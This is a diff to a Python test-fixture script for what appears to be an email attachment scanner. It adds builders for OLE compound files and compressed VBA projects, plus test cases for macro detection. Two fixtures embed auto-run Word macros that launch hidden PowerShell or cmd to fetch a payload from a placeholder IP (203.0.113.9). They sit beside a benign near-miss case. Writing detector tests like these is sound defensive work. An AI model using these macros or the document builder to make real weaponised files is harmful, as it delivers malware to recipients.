@@ -38,6 +38,82 @@ def rels(rtype, target, mode):
 def docx(extra):
     return zipof([("[Content_Types].xml", CT), ("word/document.xml", DOC)] + extra)
 
+def ole(names, types, payload):
+    """A compound file (v3, 512-byte sectors) like tests/unit/test_attach.c's
+    make_ole: header, FAT, a directory of a root and up to three entries,
+    and a run of 8 data sectors that starts with payload."""
+    import struct
+    hdr = bytearray(512)
+    hdr[0:8] = b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'
+    hdr[0x18] = 0x3E; hdr[0x1A] = 3; hdr[0x1C] = 0xFE; hdr[0x1D] = 0xFF
+    hdr[0x1E] = 9; hdr[0x20] = 6; hdr[0x2C] = 1; hdr[0x30] = 1; hdr[0x39] = 0x10
+    hdr[0x3C:0x40] = b'\xfe\xff\xff\xff'; hdr[0x44:0x48] = b'\xfe\xff\xff\xff'
+    hdr[0x4C:512] = b'\xff' * (512 - 0x4C); hdr[0x4C:0x50] = b'\0\0\0\0'
+    fat = bytearray(b'\xff' * 512)
+    fat[0:4] = struct.pack('<I', 0xFFFFFFFD); fat[4:8] = struct.pack('<I', 0xFFFFFFFE)
+    for k in range(8):
+        fat[4 * (2 + k):4 * (3 + k)] = struct.pack('<I', 0xFFFFFFFE if k == 7 else 3 + k)
+    d = bytearray(512)
+    for i, nm in enumerate(["Root Entry"] + names):
+        e = 128 * i
+        u = nm.encode('utf-16-le')
+        d[e:e + len(u)] = u
+        d[e + 0x40] = len(u) + 2
+        d[e + 0x42] = 5 if i == 0 else types[i - 1]
+        d[e + 0x44:e + 0x50] = b'\xff' * 12
+        if i == 0:
+            d[e + 0x4C:e + 0x50] = struct.pack('<I', 1)
+        elif i < len(names):
+            d[e + 0x48:e + 0x4C] = struct.pack('<I', i + 1)
+        if i > 0 and types[i - 1] == 2:
+            d[e + 0x74:e + 0x78] = struct.pack('<I', 2)
+            d[e + 0x78:e + 0x7C] = struct.pack('<I', 512 * 8)
+        else:
+            d[e + 0x74:e + 0x78] = struct.pack('<I', 0xFFFFFFFE)
+    data = payload + bytes(512 * 8 - len(payload))
+    return bytes(hdr) + bytes(fat) + bytes(d) + data
+
+def ovba_compress(src):
+    """MS-OVBA 2.4.1 compression (greedy matches, so copy tokens are used):
+    chunks of at most 3000 bytes, each a flag byte before 8 tokens."""
+    import struct
+    out = b'\x01'
+    for c in range(0, len(src), 3000):
+        chunk = src[c:c + 3000]
+        data = b''
+        pos = 0
+        while pos < len(chunk):
+            flags, tokens = 0, b''
+            for bit in range(8):
+                if pos >= len(chunk):
+                    break
+                bc = 4
+                while bc < 12 and (1 << bc) < pos:
+                    bc += 1
+                maxlen = (0xFFFF >> bc) + 3
+                best, boff = 0, 0
+                for off in range(1, pos + 1):
+                    n = 0
+                    while (n < maxlen and pos + n < len(chunk) and
+                           chunk[pos + n] == chunk[pos - off + n]):
+                        n += 1
+                    if n > best:
+                        best, boff = n, off
+                if best >= 3:
+                    flags |= 1 << bit
+                    tokens += struct.pack('<H', ((boff - 1) << (16 - bc)) | (best - 3))
+                    pos += best
+                else:
+                    tokens += chunk[pos:pos + 1]
+                    pos += 1
+            data += bytes([flags]) + tokens
+        out += struct.pack('<H', 0xB000 | (len(data) + 2 - 3)) + data
+    return out
+
+def vba_doc(source):
+    return ole(["VBA", "_VBA_PROJECT", "Module1"], [1, 2, 2],
+               ovba_compress(source.encode('ascii')))
+
 def b64(d):
     s = base64.b64encode(d).decode()
     return '\r\n'.join(s[i:i+76] for i in range(0, len(s), 76))
@@ -99,3 +175,21 @@ msg("content_attach_zip_docx_encrypted_near", True, "order.zip", "application/zi
     encrypted(zipof([("order.docx", b"x" * 200)], deflate=False)),
     "Near miss: a .docx in a password-protected zip is encrypted, not a macro format.",
     ["fires ATTACH_ENCRYPTED", "not ATTACH_MACRO"])
+MSWORD = "application/msword"
+msg("content_attach_macro_runs", False, "invoice.doc", MSWORD,
+    vba_doc('Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n'
+            '    Set o = CreateObject("WScript.Shell")\r\n'
+            '    o.Run "powershell -w hidden -c iwr http://203.0.113.9/a.exe"\r\nEnd Sub\r\n'),
+    "A Word macro that runs on opening (AutoOpen) and starts PowerShell through WScript.Shell.",
+    ["fires ATTACH_MACRO", "fires ATTACH_ACTIVE_CONTENT"])
+msg("content_attach_macro_runs_zh", True, "报价单.doc", MSWORD,
+    vba_doc('Attribute VB_Name = "ThisDocument"\r\nPrivate Sub Document_Open()\r\n'
+            '    Shell "cmd /c start http://203.0.113.9/x.hta"\r\nEnd Sub\r\n'),
+    "Document_Open calling Shell, in a Chinese letter.",
+    ["fires ATTACH_ACTIVE_CONTENT"])
+msg("content_attach_macro_plain_near", False, "calculator.doc", MSWORD,
+    vba_doc('Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n'
+            '    ActiveDocument.Fields.Update\r\nEnd Sub\r\n'
+            'Function Shelling(x)\r\n    Shelling = x * 2\r\nEnd Function\r\n'),
+    "Near miss: a macro that runs on opening but only updates fields ('Shelling' is not Shell): it has macros, it does not call out.",
+    ["fires ATTACH_MACRO", "not ATTACH_ACTIVE_CONTENT"])
